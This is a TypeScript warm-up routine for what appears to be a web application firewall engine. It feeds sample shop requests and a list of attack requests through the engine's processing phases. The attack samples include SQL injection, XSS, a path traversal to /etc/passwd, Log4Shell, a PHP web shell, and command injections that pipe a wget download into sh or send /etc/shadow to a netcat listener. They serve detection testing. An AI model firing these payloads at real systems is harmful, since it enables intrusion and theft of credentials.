import type { Program, RuleMask, Transaction } from './types.ts'

interface Sample {
  readonly method: string
  readonly target: string
  readonly headers: readonly (readonly [name: string, value: string])[]
  readonly body: Uint8Array
}

/**
 * Runs ordinary requests, attacks and a response through a program. They build its lazy automata and warm up the
 * platform's compiler. Nothing is recorded.
 * @yields after each phase, and wherever the engine does
 */
export function* warmUp(program: Program, mask: RuleMask): Generator<void, void, void> {
  for (const [index, sample] of samples.entries()) {
    const transaction = program.begin(
      {
        clientIp: '192.0.2.1',
        clientPort: 49152,
        serverPort: 80,
        method: sample.method,
        target: sample.target,
        protocol: 'HTTP/1.1',
        headers: sample.headers,
        uniqueId: `warm-up-${index}`,
        startedMs: 0,
      },
      mask,
    )
    yield* phasesOf(transaction, sample.body)
  }
}

function* phasesOf(transaction: Transaction, body: Uint8Array): Generator<void, void, void> {
  yield* transaction.requestHeaders()
  yield
  if (transaction.wantsRequestBody && body.length > 0) transaction.addRequestBody(body)
  yield* transaction.requestBody(true)
  yield
  yield* transaction.responseHeaders(200, 'HTTP/1.1', [['Content-Type', 'text/html; charset=utf-8']])
  if (transaction.wantsResponseBody) yield* transaction.responseBody(page, true)
  yield
  yield* transaction.logging()
  yield
}

const browser = [
  ['Host', 'shop.example'],
  [
    'User-Agent',
    'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/140.0.0.0 Safari/537.36',
  ],
  ['Accept', 'text/html,application/xhtml+xml,application/xml;q=0.9,image/webp,*/*;q=0.8'],
  ['Accept-Language', 'en-IE,en;q=0.9,de;q=0.7'],
  ['Accept-Encoding', 'gzip, deflate, br'],
  ['Referer', 'https://shop.example/kettles?page=2'],
  ['Cookie', 'session=9b2f4c1d7e; basket=3,17,42; theme=dark; seen=2026-05-01T08%3A30%3A00Z'],
] as const

const encoder = new TextEncoder()

function get(target: string): Sample {
  return { method: 'GET', target, headers: browser, body: new Uint8Array(0) }
}

function post(type: string, text: string, target = '/orders'): Sample {
  const body = encoder.encode(text)
  const headers = [...browser, ['Content-Type', type], ['Content-Length', String(body.length)]] as const
  return { method: 'POST', target, headers, body }
}

const form = 'application/x-www-form-urlencoded'
const json = 'application/json'

const boundary = 'boundary-5f0c2a'
const upload = [
  `--${boundary}`,
  'Content-Disposition: form-data; name="title"',
  '',
  'The garden in May',
  `--${boundary}`,
  'Content-Disposition: form-data; name="picture"; filename="garden.jpg"',
  'Content-Type: image/jpeg',
  '',
  'not really a picture, but about as long as a small one is described',
  `--${boundary}--`,
  '',
].join('\r\n')

const order = JSON.stringify({
  customer: { name: "Mary O'Byrne", email: 'mary@mail.example', newsletter: true },
  address: { street: '12 Harbour Road', town: 'Cobh', country: 'IE', note: 'ring twice; dog & cat <3' },
  items: Array.from({ length: 8 }, (_, index) => ({
    sku: `KT-${1000 + index}`,
    quantity: index + 1,
    price: 19.95 + index,
    tags: ['kitchen', 'steel'],
  })),
})

const samples: readonly Sample[] = [
  get('/'),
  get('/assets/site.5f0c2a.css'),
  get('/products/steel-kettle-1.7l?colour=blue&size=42&page=2&sort=price'),
  get('/search?q=caf%C3%A9+table+%26+4+chairs&from=2026-01-01&to=2026-02-01'),
  get('/api/items/6f9619ff-8b86-d011-b42d-00c04fc964ff?fields=name,price,stock&limit=50'),
  get('/redirect?to=https%3A%2F%2Fshop.example%2Fthanks%3Forder%3D17'),
  post(form, 'user=mary.byrne%40mail.example&password=correct-horse%21Battery7&remember=on', '/login'),
  post(
    form,
    'name=Mary+O%27Byrne&text=The+kettle+arrived+on+Tuesday%2C+and+works+well.+Could+you+send+the+invoice+%28no.+4711%29+again%3F+Thanks%21',
  ),
  post(json, order),
  post(json, '{"query":"query Item($id: ID!) { item(id: $id) { name price } }","variables":{"id":17}}'),
  post(`multipart/form-data; boundary=${boundary}`, upload, '/pictures'),
  post('text/xml', '<?xml version="1.0"?><order id="17"><item sku="KT-1">a kettle</item></order>'),
  get("/products?id=1'%20or%20'a'='a'%20union%20select%20name,password%20from%20users--%20"),
  get('/search?q=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E%3Cimg%20src=x%20onerror=alert(1)%3E'),
  get('/download?file=../../../../etc/passwd%00.png'),
  get('/page?include=http://198.51.100.7/shell.txt%3F&cmd=;cat%20/etc/shadow|nc%20198.51.100.7%204444'),
  get('/?x=$%7Bjndi:ldap://198.51.100.7/a%7D'),
  post(form, 'host=127.0.0.1%3B+wget+http%3A%2F%2F198.51.100.7%2Fa.sh+-O-+%7C+sh&go=%24%28id%29'),
  post(form, 'comment=%3C%3Fphp+system%28%24_GET%5B%27c%27%5D%29%3B+%3F%3E&next=javascript%3Aalert%281%29'),
  post(json, '{"user":{"$ne":null},"filter":"1; drop table orders; --","template":"{{7*7}}"}'),
  post(form, 'data=rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA&class=java.lang.Runtime&spel=%23%7BT%28java%29%7D'),
]

const page = encoder.encode(
  `<!doctype html><title>Kettles</title>${'<p>An ordinary page of a shop, with a price of 19.95 and a <a href="/basket">link</a>.</p>'.repeat(20)}`,
)
